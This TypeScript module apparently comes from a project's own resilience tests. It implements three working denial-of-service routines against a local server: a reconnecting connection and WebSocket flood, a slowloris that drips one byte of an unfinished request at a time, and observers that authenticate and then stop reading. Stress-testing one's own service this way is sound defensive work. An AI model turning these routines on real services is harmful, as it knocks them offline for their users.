import { connect, type Socket } from 'node:net';
import { setTimeout as wait } from 'node:timers/promises';
import { protocolVersion, socketPath } from '@yishi/protocol/names';
import { WebSocket } from 'ws';
import type { Attack, Report } from './attack.ts';

/** How long everything is kept up once it stands. */
const STAYS_MS = 20_000;
const AT_ONCE = 50;
const BYTE_EVERY_MS = 500;

const openMany = async <Thing>(count: number, open: () => Thing): Promise<Thing[]> => {
  const things: Thing[] = [];
  while (things.length < count) {
    for (let index = 0; index < AT_ONCE && things.length < count; index += 1) things.push(open());
    await wait(20);
  }
  return things;
};

const bare = (port: number): Socket => {
  const socket = connect({ port, host: '127.0.0.1' });
  socket.on('error', () => undefined);
  return socket;
};

/** Connections that say nothing, WebSockets that never say who they are, and both again whenever they are ended. */
export const connectionFlood = async ({ url, count }: Attack): Promise<Report> => {
  const port = Number(new URL(url).port);
  let sent = 0;
  const socketUrl = `${url.replace('http', 'ws')}${socketPath}?EIO=4&transport=websocket`;
  const end = performance.now() + STAYS_MS;
  const again = (): void => {
    if (performance.now() > end) return;
    sent += 1;
    if (sent % 2 === 0) bare(port).on('close', () => setTimeout(again, 100));
    else {
      const socket = new WebSocket(socketUrl);
      socket.on('error', () => undefined);
      socket.on('close', () => setTimeout(again, 100));
    }
  };
  await openMany(count, again);
  await wait(Math.max(0, end - performance.now()));
  return { sent };
};

/** Requests that come a byte at a time and never end. */
export const slowloris = async ({ url, count }: Attack): Promise<Report> => {
  const port = Number(new URL(url).port);
  const counts = { endedByServer: 0, answered: 0 };
  const sockets = await openMany(count, () => {
    const socket = bare(port);
    socket.write('POST /api/join/look HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nX-A: ');
    socket.on('data', () => (counts.answered += 1));
    socket.on('close', () => (counts.endedByServer += 1));
    return socket;
  });
  const end = performance.now() + STAYS_MS;
  while (performance.now() < end) {
    for (const socket of sockets) if (!socket.destroyed) socket.write('a');
    await wait(BYTE_EVERY_MS);
  }
  return { sent: sockets.length, ...counts };
};

/** Observers who come in and then take nothing they are sent. */
export const slowReaders = async ({ url, meeting, watchKey, count }: Attack): Promise<Report> => {
  const auth = { protocol: protocolVersion, meeting, after: null, door: 'observer', token: watchKey };
  const address = `${url.replace('http', 'ws')}${socketPath}?EIO=4&transport=websocket`;
  const counts = { stalled: 0, endedByServer: 0 };
  await openMany(count, () => {
    const socket = new WebSocket(address, { perMessageDeflate: false });
    socket.on('error', () => undefined);
    socket.on('close', () => (counts.endedByServer += 1));
    socket.on('message', (data) => {
      const text = Buffer.isBuffer(data) ? data.toString() : '';
      if (text.startsWith('0')) socket.send(`40${JSON.stringify(auth)}`);
      if (!text.startsWith('42["snapshot"')) return;
      counts.stalled += 1;
      socket.pause();
    });
    return socket;
  });
  await wait(STAYS_MS);
  return { sent: count, ...counts };
};
